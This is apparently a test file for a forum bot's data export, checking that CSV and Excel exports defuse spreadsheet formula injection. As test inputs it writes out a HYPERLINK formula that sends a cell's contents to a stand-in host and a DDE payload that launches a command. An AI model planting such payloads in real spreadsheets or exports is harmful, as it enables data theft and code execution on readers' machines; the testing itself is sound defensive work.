import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { engines } from '../helpers/databases.js';
import { useHarness } from '../helpers/harness.js';

const ADMIN = 990_101;
const dangerous = /^[=+\-@\t\r]/;

describe.each(engines)('export injection (%s)', (engine) => {
  const h = useHarness(engine, { adminIds: [ADMIN] });

  it('neutralises member-written cells that a spreadsheet would run, in CSV and .xlsx', async () => {
    const admin = h.user('Admin', { id: ADMIN });
    await admin.register('Admin Forum', 'Organisasi');
    const mallory = h.user('Mallory');
    await mallory.register('=HYPERLINK("http://contoh.test/?d="&A1,"Klik")', 'Dinkes');
    const idea = await mallory.ask('/usul +Cuci Tangan — @SUM(1+1)*cmd|/C calc!A0');
    expect(idea.text).toMatch(/Cuci Tangan/);
    await mallory.send('/usul -2+3 — \tcmd dengan tab');

    const [ideasCsv] = (await admin.send('/ekspor csv')).map((d) => d.document!.content);
    const rows = parse(ideasCsv!, { bom: true, columns: false }) as string[][];
    const cells = rows.slice(1).flat();
    expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
    expect(cells.filter((c) => dangerous.test(c))).toEqual([]);
    // The text itself is kept, after the quote that makes it inert.
    expect(cells).toContain(`'=HYPERLINK("http://contoh.test/?d="&A1,"Klik")`);
    expect(cells.some((c) => c.startsWith("'+Cuci Tangan"))).toBe(true);

    // The workbook stores the same text as strings, never as formulas.
    const [xlsx] = await admin.send('/ekspor');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx!.document!.content as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    let formulas = 0;
    let texts = 0;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++;
        if (typeof cell.value === 'string' && cell.value.startsWith('=HYPERLINK')) texts++;
      }),
    );
    expect(formulas).toBe(0);
    expect(texts).toBeGreaterThan(0);
  });
});
